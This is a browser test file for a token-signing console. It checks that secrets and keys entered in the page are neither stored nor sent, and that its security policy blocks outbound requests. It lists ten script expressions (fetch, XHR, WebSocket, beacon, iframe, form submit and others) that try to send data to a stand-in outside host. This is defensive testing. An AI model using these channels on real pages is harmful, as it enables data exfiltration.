import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { createSigner, generateKeyPair } from '../../src/index.ts'
import { type OpenConsole, openConsole, sessionOf } from './browsers/fixture.ts'
import { BROWSERS } from './browsers/start.ts'

/** A host name that no browser requests by itself. */
const OUTSIDE = 'outside-of-the-page.invalid'

/** Expressions that send a request from the page, each to its own host. */
const WAYS_OUT: Readonly<Record<string, string>> = {
  fetch: `fetch(to('fetch'), { method: 'POST', mode: 'no-cors', body: 'x' }).catch(() => {})`,
  xhr: `(() => { const xhr = new XMLHttpRequest(); xhr.open('POST', to('xhr')); xhr.send('x') })()`,
  websocket: `new WebSocket(to('websocket').replace('http', 'ws'))`,
  eventsource: `new EventSource(to('eventsource'))`,
  beacon: `navigator.sendBeacon(to('beacon'), 'x')`,
  image: `new Image().src = to('image')`,
  style: `add('link', { rel: 'stylesheet', href: to('style') })`,
  frame: `add('iframe', { src: to('frame') })`,
  media: `add('video', { src: to('media') })`,
  form: `(() => { const form = add('form', { action: to('form'), method: 'post' }); form.submit() })()`,
}

const tryToLeave = (names: readonly string[]): string => `(async () => {
  const to = (name) => 'http://' + name + '.${OUTSIDE}/'
  const add = (tag, members) => document.body.appendChild(Object.assign(document.createElement(tag), members))
  const blocked = new Set()
  document.addEventListener('securitypolicyviolation', ({ blockedURI }) => {
    if (blockedURI.includes('${OUTSIDE}')) blocked.add(blockedURI.split('//')[1].split('.')[0])
  })
  ${names.map((name) => `try { ${WAYS_OUT[name]} } catch {}`).join('\n  ')}
  for (let tries = 0; tries < 100 && blocked.size < ${names.length}; tries++) {
    await new Promise((resolve) => setTimeout(resolve, 50))
  }
  return [...blocked].sort()
})()`

/** Records console output, errors and what the page's policy blocked. */
const LISTEN = `(() => {
  globalThis.said = []
  for (const level of ['debug', 'error', 'info', 'log', 'warn']) {
    console[level] = (...values) => said.push(level + ': ' + values.map(String).join(' '))
  }
  for (const event of ['error', 'unhandledrejection', 'securitypolicyviolation']) {
    addEventListener(event, (value) => said.push(event + ': ' + (value.message ?? value.reason ?? value.blockedURI)))
  }
})()`

/** Every place where a page can store data, and what it loaded. */
const TRACES = `(async () => ({
  address: location.href,
  history: [history.length, history.state],
  windowName: name,
  title: document.title,
  cookies: document.cookie,
  local: { ...localStorage },
  session: { ...sessionStorage },
  databases: (await indexedDB.databases?.()) ?? [],
  loaded: performance.getEntriesByType('resource').map(({ name }) => name).filter((name) => !name.startsWith('data:')),
  said,
}))()`

for (const [name, start] of Object.entries(BROWSERS)) {
  describe(name, { timeout: 120_000 }, () => {
    let page: OpenConsole
    beforeAll(async () => {
      page = await openConsole(start)
    }, 60_000)
    afterAll(() => page?.close())

    test('input of the four views is neither stored nor sent', async () => {
      const { browser, person, requests, url } = page
      const secret = `mark-${crypto.randomUUID()}`
      const { privateKey, publicKey } = await generateKeyPair()
      const signer = await createSigner({ workspaceKey: 'workspace-1', secret })
      const { token } = await signer.signCustomerToken({ id: 'customer-42' })
      const sessionMark = crypto.randomUUID().replaceAll('-', '')
      const claims = { iss: 'https://acme.eu.auth0.com/', sub: sessionMark, org_id: 'org_42' }
      const session = sessionOf(claims, sessionMark)
      const before = (await browser.evaluate(TRACES.replace('said,', ''))) as { history: [number, unknown] }
      await browser.evaluate(LISTEN)

      await person.open('Inspect')
      await person.fill('Paste a token', token)
      await person.fill('Secret, public key or key set', secret)
      await person.read('Verified with HS512')
      await person.open('Sign')
      await person.fill('Workspace key', 'workspace-1')
      await person.fill('Workspace secret or private key', privateKey)
      await person.read('private key, PKCS#8 PEM')
      await person.fill('Customer id', 'customer-42')
      await person.click('Sign')
      await person.read('Signed token')
      const signed = await person.value('Token')
      await person.click('Inspect this token')
      await person.open('Keys')
      await person.fill('Paste a key', privateKey)
      await person.read('Thumbprint')
      await person.click('Generate')
      const generated = await person.value('Private key: into the Worker')
      await person.open('Set-up')
      await person.fill('Sample session (optional)', session)
      await person.click('Customer id from org_id')
      expect(await person.value('wrangler.toml')).toContain('org_id')

      const traces = (await browser.evaluate(TRACES)) as Record<string, unknown>
      expect(traces).toEqual({
        address: url,
        history: before.history,
        windowName: '',
        title: expect.any(String),
        cookies: '',
        local: {},
        session: {},
        databases: [],
        loaded: [],
        said: [],
      })
      const marks = [
        secret,
        sessionMark,
        ...[token, signed].map((text) => text.slice(-24)),
        ...[privateKey, generated].map((text) => text.replace(/-----[^-]+-----|\s/g, '').slice(60, 90)),
        publicKey.replace(/-----[^-]+-----|\s/g, '').slice(-24),
      ]
      const everywhere = JSON.stringify([traces, requests])
      expect(marks.filter((mark) => mark.length < 24 || everywhere.includes(mark))).toEqual([])
    })

    test('the page cannot send requests, even by script', async () => {
      const { browser, requests, url } = page
      const names = Object.keys(WAYS_OUT).sort()
      expect(await browser.evaluate(tryToLeave(names))).toEqual(names)
      expect(await browser.evaluate('location.href')).toBe(url)
      expect(requests.filter((request) => request.includes(OUTSIDE))).toEqual([])
    })
  })
}
